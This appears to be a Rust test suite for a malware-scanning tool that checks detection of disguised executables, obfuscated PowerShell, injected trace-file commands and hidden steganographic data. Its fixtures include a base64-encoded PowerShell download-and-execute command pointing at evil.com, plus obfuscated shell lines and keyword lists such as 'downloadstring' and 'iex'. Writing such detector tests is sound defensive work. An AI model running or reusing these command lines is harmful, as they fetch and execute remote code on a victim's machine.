use shield_ghita::security::file_analyzer::hidden::scan_hidden_deceptive_code;
use shield_ghita::security::file_analyzer::payload::{base64_decode, file_digests, has_pe_structure, hex_lower};
use shield_ghita::security::file_analyzer::scan::scan_embedded_base64;
use shield_ghita::security::file_analyzer::tokens::{has_split_token, safe_char_boundary_slice};
use shield_ghita::security::file_analyzer::verdict::{scan_file_content, EntropyReading, FileVerdict};
use shield_ghita::security::file_analyzer::{scan_tmf_file, FileFinding};
use shield_ghita::security::location_scan::{
    extension_allowed, is_skippable_dir, path_covered_by, size_scannable, LocationScanReport,
    ProgressThrottle,
};

fn entropy_of(data: &[u8]) -> f64 {
    if data.is_empty() {
        return 0.0;
    }
    let mut counts = [0usize; 256];
    for b in data {
        counts[*b as usize] += 1;
    }
    let len = data.len() as f64;
    let mut e = 0.0;
    for c in counts {
        if c > 0 {
            let p = c as f64 / len;
            e -= p * p.log2();
        }
    }
    e
}

fn scan(name: &str, data: &[u8]) -> FileVerdict {
    let ext = name.rsplit('.').next().unwrap_or("").to_ascii_lowercase();
    let e = entropy_of(data);
    let reading = EntropyReading {
        packed: e >= 7.2,
        two_places: format!("{:.2}", e),
        three_places: format!("{:.3}", e),
    };
    scan_file_content(name, name, &ext, data, &reading, 1)
}

fn has_category(v: &FileVerdict, category: &str) -> bool {
    v.findings.iter().any(|f| f.category == category)
}

fn b64(data: &[u8]) -> String {
    const A: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for chunk in data.chunks(3) {
        let b = [chunk[0], *chunk.get(1).unwrap_or(&0), *chunk.get(2).unwrap_or(&0)];
        let n = ((b[0] as u32) << 16) | ((b[1] as u32) << 8) | b[2] as u32;
        out.push(A[(n >> 18) as usize & 63] as char);
        out.push(A[(n >> 12) as usize & 63] as char);
        out.push(if chunk.len() > 1 { A[(n >> 6) as usize & 63] as char } else { '=' });
        out.push(if chunk.len() > 2 { A[n as usize & 63] as char } else { '=' });
    }
    out
}

#[test]
fn tmf_format_tokens_alone_do_not_score_as_exploitation() {
    let mut findings = Vec::new();
    let mut score = 0;
    scan_tmf_file("Trace format reference: %n %p%p%p%p %x%x%x%x%x", &mut findings, &mut score, &[]);
    assert_eq!(score, 0);
    assert!(findings.is_empty());
}

#[test]
fn benign_tmf_trace_tokens_not_flagged() {
    let mut findings = Vec::new();
    let mut score = 0;
    scan_tmf_file(
        "%1!ws! imagename [%2] %3!d! %%bytes iexflag_powershell_profile.txt",
        &mut findings,
        &mut score,
        &[],
    );
    assert!(findings.is_empty(), "real trace format tokens are benign");
    assert_eq!(score, 0);
}

#[test]
fn tmf_does_not_rescore_existing_command_evidence() {
    let mut findings = vec![FileFinding {
        severity: "HIGH".into(),
        category: "Malicious Command Pattern".into(),
        description: "Existing generic finding".into(),
        snippet: "downloadstring".into(),
    }];
    let mut score = 30;
    scan_tmf_file("downloadstring", &mut findings, &mut score, &["downloadstring"]);
    assert_eq!(score, 30, "TMF must not score the same command twice");
    assert_eq!(findings.len(), 1);
}

#[test]
fn tmf_injected_command_is_scored_once() {
    let mut findings = Vec::new();
    let mut score = 0;
    scan_tmf_file("#typev Driver_c100 10 \"%!FUNC!\" // powershell downloadstring", &mut findings, &mut score, &[]);
    assert_eq!(score, 90);
    assert_eq!(findings.len(), 2);
    assert!(findings.iter().all(|f| f.category == "Injected Code in TMF Trace Format"));
}

#[test]
fn test_has_split_token_matches_obfuscated_token() {
    assert!(has_split_token("p`o`w`e`r`s`h`e`l`l", "powershell", '`'));
    assert!(has_split_token("p^o^w^e^r^s^h^e^l^l", "powershell", '^'));
    assert!(has_split_token("run `some` tool then i`ex", "iex", '`'));
    assert!(has_split_token("cm^d^.^e^x^e", "cmd.exe", '^'));
}

#[test]
fn test_has_split_token_ignores_markdown_quotes_and_fences() {
    assert!(!has_split_token("`powershell`", "powershell", '`'));
    assert!(!has_split_token("```powershell", "powershell", '`'));
    assert!(!has_split_token("run `cmd.exe` now", "cmd.exe", '`'));
}

#[test]
fn test_has_split_token_ignores_plain_token_and_other_word_separators() {
    assert!(!has_split_token("powershell", "powershell", '`'));
    assert!(!has_split_token("use `x` or `y` here", "iex", '`'));
    assert!(!has_split_token("po`we", "powershell", '`'));
    assert!(!has_split_token("rshell `x`", "powershell", '`'));
}

#[test]
fn test_split_token_requires_boundaries() {
    for separator in ['`', '^'] {
        for text in [
            format!("prefixpo{separator}wershell"),
            format!("po{separator}wershell_suffix"),
            format!("épo{separator}wershell"),
            format!("po{separator}wershell-example"),
            format!("po{separator}wer shell"),
        ] {
            assert!(!has_split_token(&text, "powershell", separator), "{text}");
        }
    }
}

#[test]
fn test_split_token_detection_with_plain_token_elsewhere() {
    for (separator, category) in [('`', "Backtick Obfuscation Evasion"), ('^', "Caret Escape Obfuscation")] {
        for text in [
            format!("powershell; po{separator}wershell"),
            format!("po{separator}wershell; powershell"),
        ] {
            let mut findings = Vec::new();
            let mut score = 0;
            scan_hidden_deceptive_code(&text, &mut findings, &mut score);
            assert_eq!(score, 40, "{text}");
            assert_eq!(findings.len(), 1, "{text}");
            assert_eq!(findings[0].category, category);
        }
    }
}

#[test]
fn test_safe_char_boundary_slice_multibyte() {
    let text = "Xin chào 👋 世界 Привет powershell downloadstring kết thúc kiểm tra.";
    let idx = text.find("powershell").unwrap();
    let chars: Vec<char> = text.chars().collect();
    let snippet: String = safe_char_boundary_slice(&chars, idx, "powershell".len()).into_iter().collect();
    assert!(snippet.contains("powershell"));
}

#[test]
fn embedded_pe_requires_bounded_headers() {
    let mut data = vec![0u8; 512];
    data[..2].copy_from_slice(b"MZ");
    assert!(!has_pe_structure(&data));
    let mut findings = Vec::new();
    let mut score = 0;
    scan_embedded_base64(&b64(&data), &mut findings, &mut score);
    assert!(findings.is_empty());
    data[60..64].copy_from_slice(&64u32.to_le_bytes());
    data[64..68].copy_from_slice(b"PE\0\0");
    data[70..72].copy_from_slice(&1u16.to_le_bytes());
    data[84..86].copy_from_slice(&96u16.to_le_bytes());
    data[88..90].copy_from_slice(&0x10bu16.to_le_bytes());
    assert!(has_pe_structure(&data));
    scan_embedded_base64(&b64(&data), &mut findings, &mut score);
    assert_eq!(findings.len(), 1);
    data[200..204].copy_from_slice(&500u32.to_le_bytes());
    data[204..208].copy_from_slice(&500u32.to_le_bytes());
    assert!(!has_pe_structure(&data));
    data[60..64].copy_from_slice(&u32::MAX.to_le_bytes());
    assert!(!has_pe_structure(&data));
}

#[test]
fn base64_decoding_goes_through_the_standard_engine() {
    let text: Vec<char> = "aGVsbG8=".chars().collect();
    assert_eq!(base64_decode(&text), Some(b"hello".to_vec()));
    let bad: Vec<char> = "a=b".chars().collect();
    assert_eq!(base64_decode(&bad), None);
}

#[test]
fn digests_are_lowercase_hex_of_whole_content() {
    let (md5, sha1, sha256) = file_digests(b"abc");
    assert_eq!(md5, "900150983cd24fb0d6963f7d28e17f72");
    assert_eq!(sha1, "a9993e364706816aba3e25717850c26c9cd0d89d");
    assert_eq!(sha256, "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad");
    assert_eq!(hex_lower(&[0x00, 0xab]), "00ab");
}

#[test]
fn test_disguised_pe_detection() {
    let report = scan("fake_invoice.pdf", b"MZ\x90\x00\x03\x00\x00\x00This program cannot be run in DOS mode.");
    assert!(report.is_pe);
    assert!(has_category(&report, "Disguised Executable"));
}

#[test]
fn test_deceptive_greeting_wrapper_detection() {
    let report = scan(
        "test_deceptive_malware.txt",
        "Xin chao ban yeu dau! Chuc mot ngay tot lanh.\n\npowershell -enc aW52b2tlLWV4cHJlc3Npb24gKG5ldy1vYmplY3Qgc3lzdGVtLm5ldC53ZWJjbGllbnQpLmRvd25sb2Fkc3RyaW5nKCJodHRwczovL2V2aWwuY29tL3BheWxvYWQucHMxIik=".as_bytes(),
    );
    assert!(report.risk_score >= 60);
    assert_eq!(report.risk_level, "MALICIOUS");
    assert!(report.summary_text.starts_with("👋 Hello! "));
    assert!(has_category(&report, "Deceptive Greeting Wrapper"));
}

#[test]
fn test_deceptive_greeting_wrapper_detection_cyrillic() {
    let report = scan(
        "test_deceptive_cyrillic.txt",
        "Привет, друг! Запусти powershell -enc aG52b2tlLWV4cHJlc3Npb24gKA==\n".as_bytes(),
    );
    assert!(has_category(&report, "Deceptive Greeting Wrapper"));
}

#[test]
fn test_tmf_analysis_injected_powershell() {
    let report = scan(
        "driver_trace.tmf",
        "// PDB: mydriver.pdb\n#typev Driver_c100 10 \"[Trace] %!FUNC!\" // Injected: powershell downloadstring\n".as_bytes(),
    );
    assert!(has_category(&report, "Injected Code in TMF Trace Format"));
    assert!(report.risk_score >= 45);
}

#[test]
fn pipeline_iex_counts_once_across_variants() {
    let report = scan("sg_iex_alias.tmf", b"| iex another |iex and invoke-expression");
    assert_eq!(
        report.findings.iter().filter(|f| f.category == "Malicious Command Pattern").count(),
        3
    );
    assert_eq!(report.risk_score, 25, "aliases and TMF context must not rescore execution");
}

#[test]
fn test_backtick_obfuscation_detection() {
    let report = scan("test_backtick.ps1", "Write-Host 'Test'\n& (p`o`w`e`r`s`h`e`l`l) -w hidden\n".as_bytes());
    assert!(has_category(&report, "Backtick Obfuscation Evasion"));
}

#[test]
fn test_zero_width_steganography_payload() {
    let mut content = String::from("Normal innocent document text.\n");
    for b in b"http" {
        for i in (0..8).rev() {
            if (b >> i) & 1 == 1 {
                content.push('\u{200C}');
            } else {
                content.push('\u{200B}');
            }
        }
    }
    let report = scan("test_stego.txt", content.as_bytes());
    assert!(has_category(&report, "Decoded Zero-Width Steganography Payload"));
}

#[test]
fn test_benign_markdown_backticks_no_finding() {
    let report = scan(
        "test_benign_backticks_doc.txt",
        b"# Notes\n\
          Run `cmd.exe` to inspect the log, or `certutil` for hashes.\n\
          ```powershell\n\
          Get-ChildItem C:\\Logs\n\
          ```\n\
          Prefer `bitsadmin` docs over rundll32 references.\n",
    );
    assert!(!has_category(&report, "Backtick Obfuscation Evasion"));
    assert!(!has_category(&report, "Caret Escape Obfuscation"));
}

#[test]
fn plain_text_is_safe() {
    let report = scan("readme.txt", b"just a friendly note about the weather");
    assert_eq!(report.risk_score, 0);
    assert_eq!(report.risk_level, "SAFE");
    assert!(report.findings.is_empty());
    assert!(!report.is_pe);
}

#[test]
fn progress_throttle_allows_immediately_then_blocks_within_interval() {
    let mut throttle = ProgressThrottle::new();
    assert!(throttle.allow(1000));
    assert!(!throttle.allow(1005));
    assert!(!throttle.allow(1010));
}

#[test]
fn progress_throttle_allows_again_after_interval_elapsed() {
    let mut throttle = ProgressThrottle::new();
    assert!(throttle.allow(1000));
    assert!(!throttle.allow(1019));
    assert!(throttle.allow(1020));
    assert!(!throttle.allow(900));
}

#[test]
fn path_covered_by_requires_path_separator_boundary() {
    let root = "C:\\Program Files";
    assert!(path_covered_by("C:\\Program Files\\App", root));
    assert!(path_covered_by("C:\\Program Files", root));
    assert!(path_covered_by("C:\\Program Files\\", root));
    assert!(!path_covered_by("C:\\Program Files Evil", root));
    assert!(!path_covered_by("C:\\Program FilesX", root));
    assert!(!path_covered_by("C:\\Program", root));
}

#[test]
fn location_scan_filters() {
    let roots = vec!["C:\\Windows".to_string()];
    assert!(is_skippable_dir("c:\\windows\\system32", Some("system32"), &roots));
    assert!(is_skippable_dir("D:\\src\\node_modules", Some("node_modules"), &roots));
    assert!(!is_skippable_dir("D:\\docs", Some("docs"), &roots));
    let exts = vec!["ps1".to_string()];
    assert!(extension_allowed(Some("PS1"), &exts));
    assert!(!extension_allowed(Some("png"), &exts));
    assert!(extension_allowed(Some("png"), &[]));
    assert!(size_scannable(1024));
    assert!(!size_scannable(1u64 << 40));
}

#[test]
fn empty_dir_produces_no_findings() {
    let report = LocationScanReport::empty("D:\\empty");
    assert_eq!(report.malicious_count(), 0);
    assert_eq!(report.files_scanned, 0);
}

#[test]
fn verdict_carries_path_name_and_size() {
    let data = b"plain notes";
    let reading = EntropyReading { packed: false, two_places: "3.00".to_string(), three_places: "3.000".to_string() };
    let v = scan_file_content("C:\\docs\\notes.txt", "notes.txt", "txt", data, &reading, 1);
    assert_eq!(v.file_path, "C:\\docs\\notes.txt");
    assert_eq!(v.file_name, "notes.txt");
    assert_eq!(v.file_size_bytes, data.len() as u64);
    assert_eq!(v.risk_level, "SAFE");
}
